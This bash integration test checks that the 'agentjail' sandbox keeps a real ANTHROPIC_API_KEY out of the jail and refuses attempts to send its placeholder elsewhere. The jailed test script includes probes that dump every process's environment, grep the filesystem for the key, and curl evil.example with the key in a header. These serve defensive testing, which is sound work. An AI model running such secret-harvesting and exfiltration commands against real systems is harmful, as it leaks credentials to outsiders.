#!/usr/bin/env bash
# Secrets never enter the jail (doc/design.md §4d, issue 29): with ANTHROPIC_API_KEY set on the
# host and passed by name, the jail holds a placeholder; agentjail-tls adds the real value on
# requests to api.anthropic.com only (here a local stand-in, its certificate from a test CA the
# host trusts through SSL_CERT_FILE). Inside, the test dumps the environment of every process and
# greps every file it can read: the key is nowhere; the placeholder sent to another inspected
# host, in another header, or in clear is refused and logged as an exfiltration attempt; the key
# is in no output, no file of the state directory (the session store), no log line, no
# --dry-run. Inspection: an inspected host whose certificate the host does not trust is a 502
# naming why; a host that is not inspected is a plain tunnel (the certificate the client sees is
# the server's own, byte for byte); request rules allow and refuse by method and path (403 naming
# the rule that would allow it, logged with method and path); curl, python requests, node and git
# trust the jail's bundle. As root and as an unprivileged user.
. "$(dirname "$0")/lib.sh"
aj_setup

# ---- a test CA the host trusts, the servers (on the host's 127.0.0.1) --------------------------
. "$(dirname "$0")/netlib.sh" git
testca
testcert api.anthropic.com
testcert rules.test
testcert opaque.test
git -c init.defaultBranch=main init -q --bare "$SRV/repo.git"
git -c init.defaultBranch=main init -q "$SRV/src"
echo "cloned through an inspected host" >"$SRV/src/README"
git -C "$SRV/src" add README
git -C "$SRV/src" -c user.name=t -c user.email=t@t.invalid commit -qm one
git -C "$SRV/src" push -q "$SRV/repo.git" main 2>/dev/null || bail "could not make the test repository"

srv api http --name api --cert "$SRV/api.anthropic.com.pem" --key "$SRV/api.anthropic.com.key" \
	--log "$SRV/api.log"
srv rules http --name rules --cert "$SRV/rules.test.pem" --key "$SRV/rules.test.key" \
	--git-root "$SRV" --log "$SRV/rules.log"
srv bad http --name bad --cert "$SRV/crt.pem" --key "$SRV/key.pem" --log "$SRV/bad.log"
srv opaque http --name opaque --cert "$SRV/opaque.test.pem" --key "$SRV/opaque.test.key"
srv plain http --name plain --log "$SRV/plain.log"
diag "servers: api $PORT_api, rules $PORT_rules, bad (untrusted) $PORT_bad, opaque $PORT_opaque, plain $PORT_plain"

KEY=sk-ant-REAL-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
PH=agentjail-placeholder-ANTHROPIC_API_KEY
A=api.anthropic.com:$PORT_api
NETFLAGS=(--net allow --env ANTHROPIC_API_KEY
	--map-host api.anthropic.com=127.0.0.1 --allow-domain "$A"
	--map-host rules.test=127.0.0.1 --allow-domain "rules.test:$PORT_rules"
	--allow-http 'GET rules.test/ok*' --allow-http 'GET rules.test/git/*'
	--allow-http 'POST rules.test/git/*/git-upload-pack'
	--map-host bad.test=127.0.0.1 --allow-domain "bad.test:$PORT_bad" --allow-http '* bad.test/*'
	--map-host opaque.test=127.0.0.1 --allow-domain "opaque.test:$PORT_opaque"
	--map-host plain.test=127.0.0.1 --allow-domain "plain.test:$PORT_plain")
HOSTENV=(-e "ANTHROPIC_API_KEY=$KEY" -e "SSL_CERT_FILE=$HOSTBUNDLE")
jail() { # WHO SCRIPT
	aj_run "$1" "${HOSTENV[@]}" -- run "${NETFLAGS[@]}" -- sh -c "$2"
}
NL=$'\n'
# every place the key must not be, after a run: "" when it is nowhere
leaks() {
	local where=
	grep -qaF -- "$KEY" "$AJ_TMP/out" "$AJ_TMP/err" 2>/dev/null && where="$where output"
	grep -rqaF -- "$KEY" "$STATE" 2>/dev/null && where="$where state-dir"
	grep -rqaF -- "$KEY" "$WS" 2>/dev/null && where="$where workspace"
	echo "${where# }"
}

for who in "${AJ_WHOS[@]}"; do
	aj_fresh_ws "$who"
	: >"$SRV/api.log"
	: >"$SRV/rules.log"
	: >"$SRV/plain.log"

	# --- the key never enters: the jail reads everything it can ------------------------------
	jail "$who" "echo \"var=\$ANTHROPIC_API_KEY\"
{ env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' <\$f; done; } >seen.txt 2>/dev/null
grep -rIl --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr 'sk-ant-REAL' / 2>/dev/null | grep -v '/seen.txt\$' >found.txt
echo \"found=\$(wc -l <found.txt)\"
curl -sS -m 10 https://$A/v1/messages -H \"x-api-key: \$ANTHROPIC_API_KEY\"; echo \" api=\$?\"
curl -sS -m 10 https://rules.test:$PORT_rules/ok -H \"x-api-key: \$ANTHROPIC_API_KEY\"; echo \" rules=\$?\"
curl -sS -m 10 https://$A/v1/x -H \"x-note: \$ANTHROPIC_API_KEY\"; echo \" header=\$?\"
curl -sS -m 10 http://plain.test:$PORT_plain/x -H \"x-api-key: \$ANTHROPIC_API_KEY\"; echo \" plain=\$?\"
curl -sS -m 10 https://evil.example/ -H \"x-api-key: \$ANTHROPIC_API_KEY\" 2>&1; echo \" denied=\$?\""
	like "$OUT" "var=$PH" "$who: inside, ANTHROPIC_API_KEY holds the placeholder"
	grep -qaF -- "$KEY" "$WS/seen.txt" 2>/dev/null
	isnt $? 0 "$who: the real key is in no process's environment or command line in the jail"
	like "$OUT" "found=0" "$who: … nor in any file the jail can read (/, but /proc, /sys, /dev, /usr)"
	like "$OUT" "hello from api host=$A path=/v1/messages$NL api=0" \
		"$who: a request to the key's host with the placeholder is answered"
	key_in_api=$(python3 -c 'import json, sys
for l in open(sys.argv[1]):
    print(json.loads(l)["headers"].get("x-api-key", ""))' "$SRV/api.log" 2>/dev/null | head -1)
	is "$key_in_api" "$KEY" "$who: … the stand-in received the real key in x-api-key"
	like "$OUT" "exfiltration attempt: the placeholder of secret ANTHROPIC_API_KEY sent to rules\.test:$PORT_rules in header x-api-key" \
		"$who: the placeholder sent to another inspected host is refused (exfiltration)"
	like "$OUT" "exfiltration attempt: [^$NL]* in header x-note" \
		"$who: … in another header of the key's own host too"
	like "$OUT" "exfiltration attempt: [^$NL]*plain\.test:$PORT_plain[^$NL]*over plain HTTP" \
		"$who: … and in clear, to any host"
	like "$OUT" "CONNECT tunnel failed, response 403$NL denied=56" "$who: a host not allowed is refused as before"
	for s in rules plain; do
		grep -qaF -e "$KEY" -e "$PH" "$SRV/$s.log"
		isnt $? 0 "$who: the $s server received neither the key nor its placeholder"
	done
	is "$(leaks)" "" "$who: the key is in no output, workspace file or file of the state directory"
	aj_run "$who" -- log --last --json
	grep -qaF -- "$KEY" "$AJ_TMP/out"
	isnt $? 0 "$who: agentjail log --json holds no key"
	like "$OUT" '"proto": *"https".*exfiltration attempt' "$who: … and logs the exfiltration attempts (https)"
	aj_run "$who" -- log --last
	like "$OUT" "https +DENY +rules\.test:$PORT_rules .*exfiltration attempt" \
		"$who: agentjail log: the refused request, as an exfiltration attempt"
	like "$OUT" "connect +ALLOW +$A .*a secret added 1 time" "$who: … and the tunnel the key was added in"
	aj_run "$who" -- doctor
	like "$OUT" "(^|$NL)ok +ca +$STATE/ca/ca\.pem: \"agentjail CA for [^\"]*\", valid until [0-9-]+, SHA-256 [0-9a-f]{64}; key mode 0600" \
		"$who: doctor reports the CA the run made (subject, expiry, fingerprint, the key's mode)"
	like "$OUT" "(^|$NL)ok +tls +$AJ_BIN/agentjail-tls: " "$who: … and agentjail-tls"
	aj_run "$who" "${HOSTENV[@]}" -- run "${NETFLAGS[@]}" --dry-run -- true
	like "$OUT" "# secret: ANTHROPIC_API_KEY → api\.anthropic\.com in x-api-key, value from \\\$ANTHROPIC_API_KEY \(built-in\)" \
		"$who: --dry-run says where the value would come from"
	grep -qaF -- "$KEY" "$AJ_TMP/out" "$AJ_TMP/err"
	isnt $? 0 "$who: … never the value"

	# --- inspection: trust, opaque tunnels, upstream verification ------------------------------
	jail "$who" "curl -sS -m 10 -w ' code=%{http_code}' https://bad.test:$PORT_bad/x 2>&1; echo
openssl s_client -proxy 127.0.0.1:3128 -connect opaque.test:$PORT_opaque -servername opaque.test </dev/null 2>/dev/null | openssl x509 -noout -fingerprint -sha256
openssl s_client -proxy 127.0.0.1:3128 -connect $A -servername api.anthropic.com </dev/null 2>/dev/null | openssl x509 -noout -issuer"
	like "$OUT" "bad\.test:$PORT_bad: upstream: certificate verify failed: [^$NL]*$NL code=502" \
		"$who: an inspected host whose certificate the host does not trust: 502 naming why"
	grep -qs '"path": "/x"' "$SRV/bad.log"
	isnt $? 0 "$who: … and the request never reached it"
	want=$(openssl x509 -noout -fingerprint -sha256 -in "$SRV/opaque.test.pem")
	like "$OUT" "$want" "$who: a host that is not inspected is a plain tunnel: the client sees the server's own certificate"
	like "$OUT" "issuer=CN *= *agentjail CA for" "$who: an inspected host shows agentjail's CA to the jail"

	jail "$who" "curl -sS -m 10 https://rules.test:$PORT_rules/ok/1; echo
curl -sS -m 10 -w ' code=%{http_code}' -d x https://rules.test:$PORT_rules/ok/2; echo
curl -sS -m 10 -w ' code=%{http_code}' https://rules.test:$PORT_rules/secret/../ok; echo"
	like "$OUT" "hello from rules host=rules\.test:$PORT_rules path=/ok/1" "$who: a request a rule allows passes"
	like "$OUT" "POST rules\.test/ok/2 is not allowed by the request rules for rules\.test \(add --allow-http 'POST rules\.test/ok/2'\)$NL code=403" \
		"$who: another method: 403 naming the rule that would allow it"
	aj_run "$who" -- log --last
	like "$OUT" "https +DENY +rules\.test:$PORT_rules .*POST rules\.test/ok/2 is not allowed" \
		"$who: … logged with the method and the path"

	# --- a client that ignores the proxy: its direct connection is captured and inspected too --
	: >"$SRV/api.log"
	jail "$who" "curl -sS -m 10 --noproxy '*' -w ' code=%{http_code}' -d x https://rules.test:$PORT_rules/ok/3; echo
curl -sS -m 10 --noproxy '*' https://$A/direct -H \"x-api-key: \$ANTHROPIC_API_KEY\"; echo \" direct=\$?\""
	like "$OUT" "POST rules\.test/ok/3 is not allowed by the request rules for rules\.test [^$NL]*$NL code=403" \
		"$who: a direct connection (captured, no proxy) to a host with request rules: judged by them too"
	grep -qs '"path": "/ok/3"' "$SRV/rules.log"
	isnt $? 0 "$who: … and the refused request never reached the server"
	like "$OUT" "hello from api host=$A path=/direct$NL direct=0" \
		"$who: a direct connection to the key's host is answered"
	grep -qaF "\"x-api-key\": \"$KEY\"" "$SRV/api.log"
	ok $? "$who: … with the key added (the stand-in never sees the placeholder)"

	# --- real clients trust the jail's bundle --------------------------------------------------
	rm -rf "$WS/clone"
	jail "$who" "git clone -q https://rules.test:$PORT_rules/git/repo.git clone 2>&1 && cat clone/README
python3 -c 'import os, requests
print(requests.get(\"https://$A/py\", headers={\"x-api-key\": os.environ[\"ANTHROPIC_API_KEY\"]}, timeout=10).text, end=\"\")' 2>&1 | tail -1
node -e 'const http = require(\"http\"), https = require(\"https\");
const r = http.request({host: \"127.0.0.1\", port: 3128, method: \"CONNECT\", path: \"$A\"});
r.on(\"connect\", (res, sock) => https.get({socket: sock, host: \"api.anthropic.com\", servername: \"api.anthropic.com\", path: \"/node\", agent: false, headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}}, a => a.pipe(process.stdout)).on(\"error\", e => console.log(\"node failed:\", e.code || e.message)));
r.end();' 2>&1"
	like "$OUT" "cloned through an inspected host" "$who: git clone over https through an inspected host (its rules allow the smart-HTTP paths)"
	if ! [[ $OUT =~ "No module named 'requests'" ]]; then
		like "$OUT" "hello from api host=$A path=/py" "$who: python requests trusts the jail's bundle (REQUESTS_CA_BUNDLE)"
	else
		skip "$who: python requests trusts the jail's bundle" "the jail's python3 has no requests module (Debian's python3-requests)"
	fi
	if command -v node >/dev/null 2>&1; then
		like "$OUT" "hello from api host=api\.anthropic\.com(:$PORT_api)? path=/node" \
			"$who: node's https trusts the jail's bundle (NODE_EXTRA_CA_CERTS)"
	else
		skip "$who: node trusts the jail's bundle" "node is not installed"
	fi
	n_keys=$(grep -c "\"x-api-key\": \"$KEY\"" "$SRV/api.log")
	[ "$n_keys" -ge 2 ]
	ok $? "$who: … and the key was added to their requests too ($n_keys in all)"
	is "$(leaks)" "" "$who: still no key anywhere"
done
aj_skip_missing_whos "secrets added at the proxy, inspected hosts"
done_testing
